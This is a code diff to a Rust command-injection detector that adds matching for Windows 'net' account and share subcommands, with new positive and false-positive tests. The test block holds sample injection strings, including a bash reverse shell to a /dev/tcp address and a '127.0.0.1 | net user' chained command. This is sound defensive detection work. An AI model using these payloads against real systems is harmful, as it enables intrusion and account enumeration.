@@ -118,6 +118,24 @@ fn command_at(b: &[u8], i: usize) -> Option<(&'static str, bool, usize)> {
     if let Some(w) = DISTINCT.iter().find(|w| **w == word) {
         return Some((w, true, end));
     }
+    // `net user`, `net localgroup …`: the Windows account and share subcommands.
+    if word == "net" {
+        let k = skip_ws(b, end);
+        let rest = b.get(k..).unwrap_or_default();
+        for sub in [
+            &b"user"[..],
+            b"localgroup",
+            b"group",
+            b"share",
+            b"view",
+            b"use",
+            b"session",
+        ] {
+            if rest.starts_with(sub) && !rest.get(sub.len()).copied().is_some_and(is_word) {
+                return Some(("net", false, k + sub.len()));
+            }
+        }
+    }
     COMMON
         .iter()
         .find(|w| **w == word)
@@ -242,6 +260,7 @@ mod tests {
         assert!(rules("a;w\\ho\\am\\i").contains(&"cmdi-chained-command"));
         assert!(rules("x; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").contains(&"cmdi-shell-path"));
         assert!(rules("| /bin/ls -la").contains(&"cmdi-chained-command"));
+        assert!(rules("127.0.0.1 | net user").contains(&"cmdi-chained-command"));
     }
 
     #[test]
@@ -254,6 +273,7 @@ mod tests {
             "R&D; find out more",
             "echo chamber",
             "Q&A session",
+            "Profit & net user growth; net users up",
         ] {
             assert!(rules(s).is_empty(), "{s}: {:?}", rules(s));
         }
